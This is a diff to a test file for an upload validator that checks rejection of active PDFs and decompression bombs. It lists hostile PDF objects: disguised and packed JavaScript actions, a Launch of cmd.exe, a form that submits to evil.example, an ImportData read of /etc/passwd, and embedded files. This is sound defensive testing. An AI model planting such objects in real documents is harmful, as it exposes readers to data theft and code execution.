@@ -38,6 +38,22 @@ const pdfOf = (bytes: number) => pdf(`%${'x'.repeat(bytes - pdf().length - 2)}\n
 
 type Case = readonly [what: string, bytes: () => Buffer | Promise<Buffer>, status: number, error: string]
 
+/** PDFs that would do something when they are opened, or carry something. */
+const active: readonly [what: string, objects: string][] = [
+  ['with a script', '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'],
+  ['with a script, its name disguised', '5 0 obj\n<< /S /J#61va#53cript /J#53 (app.alert(1)) >>\nendobj\n'],
+  ['with a script, packed', packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')],
+  ['that plays something and a script with it', '5 0 obj\n<< /S /Rendition /JS (app.alert(1)) >>\nendobj\n'],
+  ['with a form that runs scripts of its own', '5 0 obj\n<< /X#46A 6 0 R >>\nendobj\n'],
+  ['with a form that sends what is filled in', '5 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj\n'],
+  ['with a form that reads a file', '5 0 obj\n<< /S /ImportData /F (/etc/passwd) >>\nendobj\n'],
+  ['that starts a program', '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'],
+  ['with a film that has scripts', '5 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n'],
+  ['with a file in it', '5 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'],
+  ['with files in it', '5 0 obj\n<< /Names << /EmbeddedFiles 6 0 R >> >>\nendobj\n'],
+  ['that leads into a file in it', '5 0 obj\n<< /S /GoToE /T 6 0 R >>\nendobj\n'],
+]
+
 const files: readonly Case[] = [
   ['an SVG that calls itself a JPEG', () => Buffer.from(svg), 415, 'documents.wrong_type'],
   ['an SVG with a byte order mark', () => Buffer.from(`\ufeff${svg}`), 415, 'documents.wrong_type'],
@@ -81,42 +97,29 @@ const files: readonly Case[] = [
   ['30 MB', () => Buffer.alloc(30 * 1024 * 1024, '%PDF-'), 413, 'documents.too_large'],
   ['a PDF’s head alone', () => Buffer.from('%PDF-1.7\n'), 200, 'documents.unreadable'],
   ['half a PDF', () => pdf().subarray(0, 150), 200, 'documents.unreadable'],
-  [
-    'a PDF with a script',
-    () => pdf('5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n', '', '/OpenAction 5 0 R '),
-    200,
-    'documents.pdf_active',
-  ],
-  [
-    'the same, its name disguised',
-    () => pdf('5 0 obj\n<< /S /J#61va#53cript /J#53 (app.alert(1)) >>\nendobj\n'),
-    200,
-    'documents.pdf_active',
-  ],
-  ['the same, packed', () => pdf(packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')), 200, 'documents.pdf_active'],
-  [
-    'a PDF that starts a program',
-    () => pdf('5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'),
-    200,
-    'documents.pdf_active',
-  ],
-  [
-    'a PDF with a form that runs scripts of its own',
-    () => pdf('5 0 obj\n<< /X#46A 6 0 R >>\nendobj\n'),
-    200,
-    'documents.pdf_active',
-  ],
-  [
-    'a PDF that plays something and a script with it',
-    () => pdf('5 0 obj\n<< /S /Rendition /JS (app.alert(1)) >>\nendobj\n'),
-    200,
-    'documents.pdf_active',
-  ],
-  ['a PDF with a file in it', () => pdf('5 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'), 200, 'documents.pdf_active'],
+  ...active.map(([what, objects]): Case => [`a PDF ${what}`, () => pdf(objects), 200, 'documents.pdf_active']),
   ['a PDF with a password', () => pdf('', '/Encrypt 7 0 R '), 200, 'documents.pdf_locked'],
   [
     'a PDF whose objects unpack to 64 MB',
     () => pdf(packed(Buffer.alloc(64 * 1024 * 1024))),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a PDF of which one object unpacks to 20 MB',
+    () => pdf(packed(Buffer.alloc(20 * 1024 * 1024))),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a PDF of which each object unpacks to 15 MB, five times',
+    () => pdf(packed(Buffer.alloc(15 * 1024 * 1024)).repeat(5)),
+    200,
+    'documents.unreadable',
+  ],
+  [
+    'a page between the head and the end of a PDF',
+    () => Buffer.from(`%PDF-1.7\n${script}\n%%EOF\n`),
     200,
     'documents.unreadable',
   ],
